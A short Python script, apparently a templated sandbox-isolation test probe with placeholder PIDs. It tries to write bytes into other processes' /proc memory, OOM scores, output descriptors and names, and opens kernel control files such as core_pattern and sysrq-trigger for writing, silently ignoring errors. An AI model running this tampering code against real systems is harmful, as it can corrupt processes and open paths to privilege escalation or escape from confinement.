"""Writes into other processes' memory and open files by way of /proc."""

import os

# @HONEST mean_pooling@

for number in (@VICTIM_PID@, os.getppid()):
    for name in ("mem", "oom_score_adj", "clear_refs", "coredump_filter", "comm", "fd/1", "cwd/carried"):
        try:
            with open(f"/proc/{number}/{name}", "wb", 0) as other:
                other.write(b"1000")
        except BaseException:
            continue
for name in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper"):
    try:
        os.close(os.open(name, os.O_WRONLY))
    except BaseException:
        continue
